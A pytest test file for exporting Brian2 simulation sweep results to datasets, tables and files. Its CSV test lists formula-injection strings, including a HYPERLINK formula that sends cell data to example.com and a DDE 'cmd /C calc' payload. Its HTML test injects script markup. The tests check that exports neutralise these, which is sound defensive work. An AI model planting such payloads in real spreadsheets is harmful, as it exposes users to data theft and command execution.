"""Results as datasets, tables and files: nothing lost, nothing hidden, units everywhere."""

from __future__ import annotations

import csv
import json
import os
import re
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import numpy as np
import pandas as pd
import pytest
import xarray as xr
from brian2 import Hz, ms, mV

from brian_sweep_widget.models.declaration import declare
from brian_sweep_widget.models.parameters import Parameter, Plain
from brian_sweep_widget.models.units import PLAIN_NUMBER, Unit, best_unit
from brian_sweep_widget.results import Failure, Origin, Outcome, Results, Value
from brian_sweep_widget.results.curves import settings
from brian_sweep_widget.sweeps import Axis, Job, Plan

HERTZ = best_unit(1 * Hz)
WEIGHTS = (0.0, 0.001, 0.0025)
DECLARED = {
    "size": declare("size", 100),
    "weight": declare("weight", 1.62 * mV, label="Excitatory weight"),
    "held": declare("held", default=True),
    "rule": declare("rule", "hebb"),
}


def origin(process: int = 17, engine: str = "runtime (numpy)") -> Origin:
    """Tell where a job was computed."""
    return Origin(engine, "here", process, 1.0e9, 0.25, {"python": "3.11.0", "numpy": "2.0"})


def value(si: Any, unit: Unit = PLAIN_NUMBER, label: str = "") -> Value:
    """Make a measured value."""
    return Value(np.asarray(si, dtype=float), unit, label)


def done(job: Job, **values: Any) -> Outcome:
    """Make the outcome of a job that went well."""
    measured = {
        name: given if isinstance(given, Value) else value(given, label=name.title())
        for name, given in values.items()
    }
    return Outcome(job, "done", measured, None, origin())


def axis(name: str = "weight", values: tuple[Plain, ...] = WEIGHTS) -> Axis:
    """Make an axis of a declared parameter."""
    return Axis(name, values, DECLARED[name].unit, DECLARED[name].label)


def plan_of(*axes: Axis, trials: int = 2) -> Plan:
    """Make a plan; what is not swept has its default."""
    swept = {axis.name for axis in axes}
    fixed = {name: p.default for name, p in DECLARED.items() if name not in swept}
    return Plan(axes, fixed, trials, seed=5)  # type: ignore[arg-type]


def results_of(
    plan: Plan, outcomes: list[Outcome], parameters: Mapping[str, Parameter] = DECLARED
) -> Results:
    """Make results of a model called "Model"."""
    return Results("Model", parameters, plan, outcomes)


def complete(plan: Plan) -> list[Outcome]:
    """Finish every job: the count is 1000 times the weight plus the trial."""
    return [
        done(
            job,
            count=1e6 * float(job.parameters["weight"]) + job.trial,
            rate=value(job.trial + 0.5, HERTZ, "Mean rate"),
        )
        for job in plan.jobs()
    ]


def test_the_dataset_has_the_axes_the_trials_and_the_units() -> None:
    """Dimensions are the parameters; everything has a unit and a label."""
    plan = plan_of(axis(), axis("size", (100, 400)))
    dataset = results_of(plan, complete(plan)).dataset
    assert dict(dataset.sizes) == {"weight": 3, "size": 2, "trial": 2}
    np.testing.assert_array_equal(dataset["weight"], [0.0, 1.0, 2.5])
    assert dataset["weight"].attrs == {"units": "mV", "long_name": "Excitatory weight"}
    assert dataset["size"].dtype.kind == "i"
    assert dataset["size"].values.tolist() == [100, 400]
    assert dataset["trial"].values.tolist() == [0, 1]
    assert dataset["rate"].attrs == {"units": "Hz", "long_name": "Mean rate"}
    assert dataset["count"].dims == ("weight", "size", "trial")
    np.testing.assert_allclose(dataset["count"].sel(size=400), [[0, 1], [1000, 1001], [2500, 2501]])
    assert float(dataset["count"].sel(weight=2.5, size=100, trial=1)) == pytest.approx(2501)


def test_the_dataset_tells_where_it_comes_from() -> None:
    """Model, fixed parameters with units, seed, engine, versions and hosts."""
    plan = plan_of(axis())
    attributes = results_of(plan, complete(plan)).dataset.attrs
    assert attributes["model"] == "Model"
    fixed = json.loads(attributes["fixed_parameters"])
    assert fixed == {"size": "100", "held": "True", "rule": "hebb"}
    assert (attributes["seed"], attributes["seeding"]) == (5, "independent")
    assert attributes["engine"] == "runtime (numpy)"
    assert json.loads(attributes["versions"]) == {"python": "3.11.0", "numpy": "2.0"}
    assert attributes["hosts"] == "here"


def test_fixed_parameters_are_told_with_units() -> None:
    """1.62 mV, not 0.00162."""
    plan = plan_of(axis("size", (100, 200)))
    outcomes = [done(job, count=1) for job in plan.jobs()]
    attributes = results_of(plan, outcomes).dataset.attrs
    assert json.loads(attributes["fixed_parameters"])["weight"] == "1.62 mV"


def test_two_engines_are_both_named() -> None:
    """Results of two families are never one unmarked curve."""
    plan = plan_of(axis(), trials=1)
    jobs = plan.jobs()
    outcomes = [
        Outcome(job, "done", {"count": value(1)}, None, origin(engine=engine))
        for job, engine in zip(jobs, ("b", "a", "a"), strict=True)
    ]
    assert results_of(plan, outcomes).dataset.attrs["engine"] == "a, b"


def test_partial_results_are_results() -> None:
    """NaN and "pending" where there is nothing yet."""
    plan = plan_of(axis())
    results = results_of(plan, complete(plan)[:2])
    dataset = results.dataset
    assert int(dataset["count"].notnull().sum()) == 2
    assert (dataset["status"] == "pending").sum() == 4
    assert (dataset["status"] == "done").sum() == 2
    assert (dataset["seed"] == -1).sum() == 4
    assert int(dataset["wall_time"].notnull().sum()) == 2
    assert len(results) == 2
    assert results.counts() == {"done": 2}
    assert len(results.to_dataframe()) == 2


def test_nothing_at_all_is_a_dataset_too() -> None:
    """Before the first outcome there are axes, and no measures."""
    plan = plan_of(axis())
    results = results_of(plan, [])
    assert results.dataset["status"].shape == (3, 2)
    assert set(results.dataset["status"].values.ravel()) == {"pending"}
    assert results.measures == {}
    assert results.to_dataframe().empty
    assert "nothing yet, of 6 jobs" in repr(results)


def test_every_kind_of_ending_is_in_the_status() -> None:
    """With its reason where there is one."""
    plan = plan_of(axis("weight", (*WEIGHTS, 0.004)), trials=1)
    good, bad, dead, stopped = plan.jobs()
    results = results_of(
        plan,
        [
            done(good, count=3),
            Outcome(bad, "failed", {}, Failure("ValueError", "no such thing", "trace"), origin(4)),
            Outcome(dead, "lost", {}, Failure("WorkerDied", "twice")),
            Outcome(stopped, "cancelled"),
        ],
    )
    dataset = results.dataset
    by_status = {str(status): index for index, status in enumerate(dataset["status"].values[:, 0])}
    assert set(by_status) == {"done", "failed", "lost", "cancelled"}
    errors = dataset["error"].values[:, 0]
    assert errors[by_status["failed"]] == "ValueError: no such thing"
    assert errors[by_status["lost"]] == "WorkerDied: twice"
    assert errors[by_status["cancelled"]] == errors[by_status["done"]] == ""
    processes = dataset["process"].values[:, 0]
    assert processes[by_status["failed"]] == 4
    assert processes[by_status["lost"]] == processes[by_status["cancelled"]] == -1
    assert np.isnan(dataset["count"].values[by_status["failed"], 0])
    assert dataset["count"].values[by_status["done"], 0] == 3
    assert (dataset["seed"].values >= 0).all()
    assert [outcome.status for outcome in results.failures] == ["failed", "lost"]
    assert results.counts() == {"done": 1, "failed": 1, "lost": 1, "cancelled": 1}
    assert "1 failed" in repr(results)
    table = results.to_dataframe()
    assert sorted(table["status"]) == sorted(by_status)
    assert table["count"].notna().sum() == 1


def test_failures_read_well() -> None:
    """Kind and message, or the kind alone."""
    assert str(Failure("ValueError", "no")) == "ValueError: no"
    assert str(Failure("KeyboardInterrupt", "")) == "KeyboardInterrupt"


def test_arrays_of_differing_size_are_padded() -> None:
    """Spike times, say: filled up with NaN to the longest."""
    plan = plan_of(axis(), trials=1)
    sizes = {job.position: index + 1 for index, job in enumerate(plan.jobs())}
    outcomes = [done(job, times=np.arange(sizes[job.position], dtype=float)) for job in plan.jobs()]
    dataset = results_of(plan, outcomes).dataset
    assert dataset["times"].dims == ("weight", "trial", "times_0")
    assert dataset["times"].shape == (3, 1, 3)
    for position, size in sizes.items():
        row = dataset["times"].values[position]
        np.testing.assert_array_equal(row[:size], np.arange(size))
        assert np.isnan(row[size:]).all()


def test_empty_arrays_are_results() -> None:
    """A network that did not spike has no spike times."""
    plan = plan_of(axis(), trials=1)
    outcomes = [done(job, times=np.array([])) for job in plan.jobs()]
    dataset = results_of(plan, outcomes).dataset
    assert dataset["times"].shape == (3, 1, 0)
    assert (dataset["status"] == "done").all()


def test_tables_and_numbers_may_be_mixed() -> None:
    """Matrices are padded along both axes; a number stands at their first place."""
    plan = plan_of(axis(), trials=1)
    given = [np.ones((2, 3)), np.array([5.0]), 7.0]
    jobs = plan.jobs()
    outcomes = [done(job, field=shown) for job, shown in zip(jobs, given, strict=True)]
    field = results_of(plan, outcomes).dataset["field"]
    assert field.shape == (3, 1, 2, 3)
    values = [field.values[job.position] for job in jobs]
    np.testing.assert_array_equal(values[0], np.ones((2, 3)))
    assert values[1][0, 0] == 5.0
    assert values[2][0, 0] == 7.0
    assert np.isnan(values[1]).sum() == np.isnan(values[2]).sum() == 5


def test_scalars_and_arrays_live_side_by_side() -> None:
    """The table has the single values, the dataset has all."""
    plan = plan_of(axis(), trials=1)
    outcomes = [done(job, count=3, times=np.zeros(2)) for job in plan.jobs()]
    results = results_of(plan, outcomes)
    assert {"count", "times"} <= set(results.dataset.data_vars)
    table = results.to_dataframe()
    assert "count" in table
    assert "times" not in table


def test_no_axes_leave_the_trials() -> None:
    """One point, several trials."""
    plan = Plan((), {name: p.default for name, p in DECLARED.items()}, 3)  # type: ignore[misc]
    dataset = results_of(plan, [done(job, count=job.trial) for job in plan.jobs()]).dataset
    assert dataset["count"].dims == ("trial",)
    assert dataset["count"].values.tolist() == [0, 1, 2]


@pytest.mark.parametrize(
    "name", ["status", "seed", "wall_time", "host", "process", "error", "trial", "engine"]
)
def test_a_measure_may_be_called_like_our_own_columns(name: str) -> None:
    """Both are there, in the dataset and in the table, and neither hides the other."""
    plan = plan_of(axis(), trials=1)
    results = results_of(plan, [done(job, **{name: 12.5}) for job in plan.jobs()])
    dataset = results.dataset
    measured = [key for key, found in dataset.data_vars.items() if (found == 12.5).all()]
    assert len(measured) == 1
    assert any((found == "done").all() for found in dataset.data_vars.values())
    table = results.to_dataframe()
    assert [column for column in table if (table[column] == 12.5).all()]
    assert [column for column in table if (table[column] == "done").all()]
    seeds = [job.seed for job in sorted(plan.jobs(), key=lambda job: job.position)]
    assert [column for column in table if table[column].tolist() == seeds]
    assert [column for column in table if table[column].tolist() == [0, 0, 0]]
    assert len(set(table.columns)) == len(table.columns)


@pytest.mark.parametrize("name", ["status", "seed", "host", "trial", "engine", "error"])
def test_a_parameter_may_be_called_like_our_own_columns(name: str) -> None:
    """An axis of that name is swept like any other."""
    parameters = {name: declare(name, 1.0)}
    plan = Plan((Axis(name, (12.5, 13.5)),), {}, trials=2)
    outcomes = [done(job, count=float(job.parameters[name])) for job in plan.jobs()]
    results = results_of(plan, outcomes, parameters)
    counts = results.dataset["count"]
    assert sorted(counts.shape) == [2, 2]
    assert sorted(counts.values.ravel().tolist()) == [12.5, 12.5, 13.5, 13.5]
    table = results.to_dataframe()
    swept = [column for column in table if table[column].tolist() == [12.5, 12.5, 13.5, 13.5]]
    assert len(swept) == 2  # the parameter, and the count that repeats it
    assert [column for column in table if (table[column] == "done").all()]


def test_a_measure_may_be_called_like_a_swept_parameter() -> None:
    """Network models may do so: the axis stays, the measure is renamed."""
    plan = plan_of(axis(), trials=1)
    dataset = results_of(plan, [done(job, weight=7.5) for job in plan.jobs()]).dataset
    np.testing.assert_array_equal(dataset["weight"], [0.0, 1.0, 2.5])
    assert any((found == 7.5).all() for found in dataset.data_vars.values())
    table = results_of(plan, [done(job, weight=7.5) for job in plan.jobs()]).to_dataframe()
    assert table["weight"].tolist() == [0.0, 1.0, 2.5]
    assert [column for column in table if (table[column] == 7.5).all()]


@pytest.mark.parametrize(
    "names", [("trial", "trial_"), ("times", "times_0"), ("status", "status_")]
)
def test_renamed_measures_do_not_hide_others(names: tuple[str, str]) -> None:
    """Two measures are two variables, whatever they are called."""
    plan = plan_of(axis(), trials=1)
    first, second = names
    outcomes = [done(job, **{first: [1.5, 1.5], second: 2.5}) for job in plan.jobs()]
    dataset = results_of(plan, outcomes).dataset
    assert [key for key, found in dataset.data_vars.items() if (found == 1.5).all()]
    assert [key for key, found in dataset.data_vars.items() if (found == 2.5).all()]


def test_the_table_has_a_row_a_job_in_the_order_of_the_grid() -> None:
    """Whatever the order in which the outcomes came."""
    plan = plan_of(axis())
    results = results_of(plan, complete(plan)[::-1])
    table = results.to_dataframe()
    assert list(table.columns) == [
        *("size", "weight", "held", "rule", "trial", "seed", "count", "rate"),
        *("status", "error", "wall_time", "engine", "host", "process"),
    ]
    assert table["weight"].tolist() == [0.0, 0.0, 1.0, 1.0, 2.5, 2.5]
    assert table["trial"].tolist() == [0, 1] * 3
    np.testing.assert_allclose(table["count"], [0, 1, 1000, 1001, 2500, 2501])
    assert table["rate"].tolist() == [0.5, 1.5] * 3
    assert table["size"].dtype.kind == "i"
    assert table["held"].tolist() == [True] * 6
    assert set(table["rule"]) == {"hebb"}
    seeds = {job.position: job.seed for job in plan.jobs()}
    assert table["seed"].tolist() == [seeds[position] for position in sorted(seeds)]
    units = table.attrs["units"]
    assert (units["weight"], units["rate"], units["wall_time"]) == ("mV", "Hz", "s")
    assert units["size"] == units["count"] == ""


def test_csv_round_trip(tmp_path: Path) -> None:
    """Units are in the titles; numbers come back exactly."""
    plan = plan_of(axis())
    results = results_of(plan, complete(plan))
    path = results.save(tmp_path / "out.csv")
    assert path == tmp_path / "out.csv"
    read = pd.read_csv(path)
    table = results.to_dataframe()
    assert {"weight (mV)", "rate (Hz)", "wall_time (s)", "size", "count"} <= set(read.columns)
    assert read["weight (mV)"].tolist() == table["weight"].tolist()
    assert read["count"].tolist() == table["count"].tolist()
    assert read["seed"].tolist() == table["seed"].tolist()


FORMULA = '=HYPERLINK("http://example.com/?"&A2)'
FORMULAS = [
    *(FORMULA, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ttab"),
    *("\ufeff=1", "\u200b=1", "\u2060+1+1", " =1", "\u00a0 \x00@x", "\uff1d1+1", "\ufe63A1"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_texts_are_no_formulas_in_csv(tmp_path: Path, text: str) -> None:
    """An apostrophe makes them texts, wherever they stand; numbers stay numbers."""
    plan = plan_of(axis(), trials=1)
    failed = Failure(text, "", "")
    measured = {text: Value(np.asarray(-1.5), PLAIN_NUMBER, text)}
    counts = {"counts": Value(np.asarray([-1.5]), PLAIN_NUMBER, "counts")}
    first, *others = plan.jobs()
    outcomes = [Outcome(first, "done", {**measured, **counts})]
    outcomes += [Outcome(job, "failed", {}, failed) for job in others]
    with pytest.warns(UserWarning, match="arrays are in"):
        path = results_of(plan, outcomes).save(tmp_path / "out.csv")
    with path.open(encoding="utf-8", newline="") as file:
        titles, *rows = csv.reader(file)
    shown = "'" + text.replace("\r", "\n")  # where a program could begin another row
    assert rows[0][titles.index(shown)] == "-1.5"
    assert {row[titles.index("error")] for row in rows} == {"", shown}
    assert pd.read_csv(tmp_path / "out.counts.csv")["counts"].tolist() == [-1.5]


@pytest.mark.parametrize("text", ["", "-1.5", "-1e-3", "+2", "a=b", "mean rate", "'=1", "x - y"])
def test_other_texts_stay_in_csv(tmp_path: Path, text: str) -> None:
    """Numbers that are texts, too."""
    plan = plan_of(axis(), trials=1)
    outcomes = [Outcome(job, "failed", {}, Failure(text, "")) for job in plan.jobs()]
    path = results_of(plan, outcomes).save(tmp_path / "out.csv")
    with path.open(encoding="utf-8", newline="") as file:
        assert {row["error"] for row in csv.DictReader(file)} == {text}


@pytest.mark.parametrize("suffix", [".csv", ".html", ".json", ".nc", ".parquet"])
def test_texts_that_are_no_unicode_are_written_all_the_same(tmp_path: Path, suffix: str) -> None:
    """The name of a file that is no UTF-8, above all."""
    plan = plan_of(axis(), trials=1)
    first, *others = plan.jobs()
    odd = os.fsdecode(b"no file \xff.txt")
    outcomes = [done(first, rate=1.0)]
    outcomes += [Outcome(job, "failed", {}, Failure("OSError", odd)) for job in others]
    results = Results("Model", results_of(plan, []).parameters, plan, outcomes, odd)
    path = results.save(tmp_path / f"out{suffix}")
    assert b"\\udcff.txt" in path.read_bytes()


@pytest.mark.parametrize("number", [5.123456789012345e-12, 1 / 3, 1.23456789012345e20, 1e-300])
@pytest.mark.parametrize("suffix", [".json", ".csv", ".parquet"])
def test_files_keep_every_digit(tmp_path: Path, suffix: str, number: float) -> None:
    """Five picoampere are 5e-12 A, not zero."""
    plan = plan_of(axis(), trials=1)
    outcomes = [done(job, current=number) for job in plan.jobs()]
    path = results_of(plan, outcomes).save(str(tmp_path / f"out{suffix}"))
    if suffix == ".json":
        read = [row["current"] for row in json.loads(path.read_text(encoding="utf-8"))["rows"]]
    elif suffix == ".parquet":
        read = pd.read_parquet(path)["current"].tolist()
    else:
        read = pd.read_csv(path)["current"].tolist()
    assert read == pytest.approx([number] * 3, rel=1e-11, abs=0)


def test_json_round_trip(tmp_path: Path) -> None:
    """Rows, units and provenance; what failed is null."""
    plan = plan_of(axis(), trials=1)
    outcomes = complete(plan)
    outcomes[1] = Outcome(outcomes[1].job, "failed", {}, Failure("ValueError", "é"), origin())
    path = results_of(plan, outcomes).save(tmp_path / "out.json")
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["units"]["weight"] == "mV"
    assert document["attributes"]["model"] == "Model"
    assert len(document["rows"]) == 3
    assert [row["count"] for row in document["rows"]].count(None) == 1
    assert {row["error"] for row in document["rows"]} == {"", "ValueError: é"}


@pytest.mark.parametrize("number", [0, 2, 6])
def test_netcdf_round_trip(tmp_path: Path, number: int) -> None:
    """The dataset comes back as it was, partial or whole, arrays and texts included."""
    plan = plan_of(axis(), axis("size", (100,)))
    outcomes = complete(plan)
    outcomes = [
        Outcome(
            outcome.job,
            "done",
            {**outcome.values, "times": value(np.arange(2.0), best_unit(1 * ms), "Times")},
            None,
            origin(),
        )
        for outcome in outcomes
    ]
    results = results_of(plan, outcomes[:number])
    path = results.save(tmp_path / "out.nc")
    with xr.open_dataset(path, engine="h5netcdf") as read:
        expected = results.dataset
        assert set(read.variables) == set(expected.variables)
        for name, variable in expected.variables.items():
            np.testing.assert_array_equal(read[name].values, variable.values)
            assert read[name].attrs.get("units", "") == variable.attrs.get("units", "")
        assert read.attrs["model"] == "Model"
        assert read.attrs["fixed_parameters"] == expected.attrs["fixed_parameters"]


def test_parquet_round_trip(tmp_path: Path) -> None:
    """The table as it was, with its units and where it comes from."""
    plan = plan_of(axis(), trials=1)
    outcomes = complete(plan)
    outcomes[1] = Outcome(outcomes[1].job, "failed", {}, Failure("ValueError", "é"), origin())
    results = results_of(plan, outcomes)
    read = pd.read_parquet(results.save(tmp_path / "out.parquet"))
    pd.testing.assert_frame_equal(read, results.to_dataframe())
    assert read.attrs["units"]["weight"] == "mV"
    assert read.attrs["provenance"]["model"] == "Model"


@pytest.mark.parametrize(
    ("module", "suffix"), [("pyarrow", "parquet"), ("h5netcdf", "nc"), ("matplotlib.figure", "png")]
)
def test_a_missing_library_is_named(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, module: str, suffix: str
) -> None:
    """With what to install, and no half-written file."""
    monkeypatch.setitem(sys.modules, module, None)
    plan = plan_of(axis())
    results = results_of(plan, complete(plan))
    with pytest.raises(ImportError, match="pip install 'brian-sweep-widget"):
        results.save(tmp_path / f"out.{suffix}")
    assert not list(tmp_path.iterdir())


def test_settings_are_told_in_words() -> None:
    """What a stranger needs to know about a picture."""
    plan = plan_of(axis())
    outcomes = complete(plan)
    outcomes[0] = Outcome(outcomes[0].job, "failed", {}, Failure("ValueError", "no"), origin())
    said = dict(settings(results_of(plan, outcomes[:5])))
    assert said["Model"] == "Model"
    assert said["Excitatory weight"] == "0 mV to 2.5 mV, 3 values"
    assert said["Size"] == "100"
    assert said["Rule"] == "hebb"
    assert said["Seed"] == "5 (independent)"
    assert said["Simulations"] == "1 failed, 4 done, of 6"
    assert said["Versions"] == "numpy 2.0, python 3.11.0"
    assert "Notice" not in said


def test_a_picture_says_what_it_shows(tmp_path: Path) -> None:
    """Title, units and settings are in the picture, and in the file's description."""
    plan = plan_of(axis())
    path = results_of(plan, complete(plan)).save(tmp_path / "curve.svg")
    tree = ET.parse(path)
    described = tree.find(".//{http://purl.org/dc/elements/1.1/}description")
    assert described is not None
    assert "Excitatory weight: 0 mV to 2.5 mV, 3 values" in str(described.text)
    comments = re.findall("<!-- (.*?) -->", path.read_text(encoding="utf-8"))
    assert {"Model", "Excitatory weight (mV)", "Mean rate (Hz)"} <= set(comments)
    assert "Size: 100" in " ".join(comments)


def test_a_page_holds_what_there_is_and_asks_for_nothing(tmp_path: Path) -> None:
    """Every number to the last digit; markup in names is text."""
    plan = plan_of(axis(), axis("size", (100, 200)), trials=1)
    outcomes = complete(plan)
    outcomes[3] = Outcome(outcomes[3].job, "failed", {}, Failure("ValueError", "no"), origin())
    evil = "</script><b>Model</b>"
    path = Results(evil, DECLARED, plan, outcomes[:-1]).save(tmp_path / "curve.html")
    text = path.read_text(encoding="utf-8")
    assert evil not in text
    requests = r"(?:src|href)\s*=|url\(|@import|https?://(?!www\.w3\.org/2000/svg)"
    assert not re.findall(requests, text)
    found = re.search('id="sweep">(.*?)</script>', text)
    assert found is not None
    sweep = json.loads(found[1])
    assert sweep["title"] == evil
    assert sweep["x"] == {"title": "Excitatory weight (mV)", "values": [0.0, 1.0, 2.5]}
    assert sweep["lines"] == ["Size = 100", "Size = 200"]
    count = next(one for one in sweep["measures"] if one["title"] == "Count")
    assert count["values"] == [[[0.0], [1000.0], [2500.0]], [[0.0], [None], [None]]]
    assert count["failed"] == [[False, False, False], [False, False, True]]


def test_many_curves_of_two_parameters_are_a_map(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cells in the order of their numbers, empty ones empty, failed ones marked."""
    sizes = (*range(700, 100, -100), 100)  # falling
    plan = plan_of(axis(), axis("size", sizes), trials=1)
    by_place = {one.job.position: one for one in complete(plan)}
    del by_place[0, 0, 0]  # weight 0, size 700
    job = by_place[2, 6, 0].job  # weight 2.5 mV, size 100
    by_place[2, 6, 0] = Outcome(job, "failed", {}, Failure("ValueError", "no"), origin())
    drawn: list[Any] = []
    monkeypatch.setattr(
        "matplotlib.figure.Figure.savefig", lambda figure, *_, **__: drawn.append(figure)
    )
    results_of(plan, list(by_place.values())).save(tmp_path / "map.png")
    panel = drawn[0].axes[0]
    cells = panel.collections[0].get_array().reshape(7, 3)
    expected = np.tile([0.0, 1000.0, 2500.0], (7, 1))
    missing = np.zeros((7, 3), dtype=bool)
    missing[0, 2] = missing[6, 0] = True
    np.testing.assert_array_equal(np.ma.getmaskarray(cells), missing)
    np.testing.assert_allclose(cells[~missing], expected[~missing])
    assert panel.get_ylabel() == "Size"
    assert [line.get_xydata().tolist() for line in panel.lines] == [[[2.5, 100.0]]]
    assert "Count" in [one.get_ylabel() for one in drawn[0].axes]


def test_the_page_of_a_map_says_what_its_rows_are(tmp_path: Path) -> None:
    """As many curves as can be told apart are curves, more are a map."""
    for many, rows in ((6, None), (7, [float(size) for size in range(1, 8)])):
        plan = plan_of(axis(), axis("size", tuple(range(1, many + 1))), trials=1)
        text = results_of(plan, complete(plan)).save(tmp_path / "map.html").read_text()
        found = re.search('id="sweep">(.*?)</script>', text)
        assert found is not None
        told = json.loads(found[1])["rows"]
        assert told == (rows and {"title": "Size", "values": rows})


@pytest.mark.parametrize("suffix", ["html", "png"])
def test_what_has_no_curve_is_not_drawn(tmp_path: Path, suffix: str) -> None:
    with pytest.raises(ValueError, match="nothing is swept"):
        results_of(plan_of(), []).save(tmp_path / f"out.{suffix}")
    with pytest.raises(ValueError, match="nothing to draw"):
        results_of(plan_of(axis()), []).save(tmp_path / f"out.{suffix}")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("name", ["out.xlsx", "out", "out.CSV2", ".csv"])
def test_other_suffixes_are_refused(tmp_path: Path, name: str) -> None:
    """With those that can be written; no file is made."""
    plan = plan_of(axis())
    allowed = r"no known suffix \(allowed: .csv, .html, .json, .nc, .parquet, .pdf, .png, .svg\)"
    with pytest.raises(ValueError, match=allowed):
        results_of(plan, []).save(tmp_path / name)
    assert not list(tmp_path.iterdir())


def with_arrays() -> Results:
    """Make results of two points: ragged arrays, one of them with an infinity, and a number."""
    plan = plan_of(axis(values=WEIGHTS[:2]), trials=1)
    first, second = sorted(plan.jobs(), key=lambda job: job.position)
    return results_of(
        plan,
        [
            done(second, count=2.0, peaks=value([3.0], HERTZ, "Peaks"), grid=[[1.0, 2.0]]),
            done(first, count=1.0, peaks=value([1.0, np.inf, np.nan], HERTZ, "Peaks"), grid=5.0),
        ],
    )


LONG = {
    "weight (mV)": [0.0, 0.0, 0.0, 1.0],
    "trial": [0, 0, 0, 0],
    "index": [0, 1, 2, 0],
    "peaks (Hz)": [1.0, np.inf, np.nan, 3.0],
}


def test_arrays_are_long_tables_beside_a_csv_file(tmp_path: Path) -> None:
    """Every number of them, with what it belongs to; and it is said where they are."""
    results = with_arrays()
    with pytest.warns(UserWarning, match=r"curve.csv holds single numbers; arrays are in") as told:
        path = results.save(tmp_path / "curve.csv")
    assert "curve.peaks.csv (peaks) and curve.grid.csv (grid)" in str(told[0].message)
    assert pd.read_csv(path)["count"].tolist() == [1.0, 2.0]
    peaks = pd.read_csv(tmp_path / "curve.peaks.csv")
    pd.testing.assert_frame_equal(peaks, pd.DataFrame(LONG))
    grid = pd.read_csv(tmp_path / "curve.grid.csv")
    assert list(grid.columns) == ["weight (mV)", "trial", "index_0", "index_1", "grid"]
    assert grid["grid"].tolist() == [5.0, 1.0, 2.0]  # a single number at one point is there, too
    assert grid["index_1"].tolist() == [0, 0, 1]


def test_arrays_are_long_tables_beside_a_parquet_file(tmp_path: Path) -> None:
    written = with_arrays().write(tmp_path / "curve.parquet")
    names = ["curve.parquet", "curve.peaks.parquet", "curve.grid.parquet"]
    assert [path.name for path in written.paths] == names
    read = pd.read_parquet(written.paths[1])
    assert read["peaks"].tolist()[:2] == [1.0, np.inf]
    assert read.attrs["units"] == {"weight": "mV", "trial": "", "index": "", "peaks": "Hz"}
    assert read.attrs["provenance"]["model"] == "Model"


def test_json_holds_arrays_as_lists(tmp_path: Path) -> None:
    """And says of infinity what it is, which JSON has no number for."""
    written = with_arrays().write(tmp_path / "curve.json")
    assert written.remark == ""
    document = json.loads(written.paths[0].read_text())
    assert [row["peaks"] for row in document["rows"]] == [[1.0, "Infinity", None], [3.0]]
    assert [row["grid"] for row in document["rows"]] == [5.0, [[1.0, 2.0]]]
    assert document["units"]["peaks"] == "Hz"


def test_netcdf_holds_arrays(tmp_path: Path) -> None:
    written = with_arrays().write(tmp_path / "curve.nc")
    assert written.remark == ""
    with xr.open_dataset(written.paths[0]) as read:
        assert read["peaks"].to_numpy()[:, 0].tolist()[1][0] == 3.0
        assert read["grid"].to_numpy()[1, 0].tolist() == [[1.0, 2.0]]


@pytest.mark.parametrize("suffix", ["html", "png", "svg", "pdf"])
def test_pictures_and_pages_say_what_they_do_not_show(tmp_path: Path, suffix: str) -> None:
    """On themselves, and to who saves them."""
    results = with_arrays()
    told = "peaks and grid are arrays, which no curve shows: save them as .csv, .json, .nc"
    assert told in results.write(tmp_path / f"curve.{suffix}").remark
    assert told in dict(settings(results))["Not shown"]
    if suffix == "html":
        assert told in (tmp_path / "curve.html").read_text()


def test_files_of_arrays_have_names_that_a_folder_can_hold(tmp_path: Path) -> None:
    """Whatever a dict of results calls them; and none hides another."""
    plan = plan_of(axis(values=WEIGHTS[:1]), trials=1)
    names = ["../up", "a/b", "A b", "a b", "μ"]
    results = results_of(plan, [done(plan.jobs()[0], **{name: [1.0] for name in names})])
    paths = results.write(tmp_path / "curve.csv").paths
    assert len(paths) == len({path.name.casefold() for path in paths}) == 6
    assert {path.parent for path in paths} == {tmp_path}
    assert all(path.exists() for path in paths)


def test_arrays_of_fewer_dimensions_have_a_place() -> None:
    """Also longer ones than those of more dimensions."""
    plan = plan_of(axis(values=WEIGHTS[:2]), trials=1)
    first, second = sorted(plan.jobs(), key=lambda job: job.position)
    arrays = done(first, a=[[1.0, 2.0]]), done(second, a=[1.0, 2.0, 3.0])
    found = results_of(plan, list(arrays)).dataset["a"].to_numpy()[:, 0, 0]
    assert found[1].tolist() == [1.0, 2.0, 3.0]


def partial_results() -> Results:
    """Make results of three points: one whole, one in which a measure failed, one failed."""
    plan = plan_of(axis(), trials=1)
    first, second, third = sorted(plan.jobs(), key=lambda job: job.position)
    trouble = Failure("ZeroDivisionError", "division by zero", "Traceback: in rate")
    never = {"cv": Failure("KeyError", "'spikes'")}
    found: dict[str, Value | Failure] = {"count": value(2.0, label="Count"), "rate": trouble}
    both: dict[str, Value | Failure] = {"count": trouble, "rate": trouble, **never}
    return results_of(
        plan,
        [
            Outcome(
                first, "done", dict(done(first, count=1.0, rate=5.0).values), None, origin(), never
            ),
            Outcome.measured(second, {**found, **never}, origin()),
            Outcome.measured(third, both, origin()),
        ],
    )


WHY = "rate: ZeroDivisionError: division by zero; cv: KeyError: 'spikes'"


def test_what_is_partial_keeps_its_numbers_and_names_what_failed(tmp_path: Path) -> None:
    """In the dataset, in tables and in files; a measure that failed everywhere has a column."""
    results = partial_results()
    assert results.counts() == {"done": 2, "failed": 1}
    assert "2 done, 1 failed (2 of them partial)" in repr(results)
    assert len(results.failures) == 3
    dataset = results.dataset
    assert dataset["count"].to_numpy()[:2, 0].tolist() == [1.0, 2.0]
    assert np.isnan(dataset["rate"].to_numpy()[:, 0]).tolist() == [False, True, True]
    assert np.isnan(dataset["cv"].to_numpy()).all()
    assert dataset["error"].to_numpy()[1, 0] == WHY
    frame = pd.read_csv(results.save(tmp_path / "curve.csv"))
    assert frame["count"].tolist()[:2] == [1.0, 2.0]
    assert frame["error"].tolist()[1] == WHY
    assert frame["cv"].isna().all()
    rows = json.loads(results.save(tmp_path / "curve.json").read_text())["rows"]
    assert (rows[1]["count"], rows[1]["rate"], rows[1]["cv"]) == (2.0, None, None)
    read = pd.read_parquet(results.save(tmp_path / "curve.parquet"))
    assert read["error"].tolist()[1] == WHY
    with xr.open_dataset(results.save(tmp_path / "curve.nc")) as opened:
        assert opened.identical(dataset)


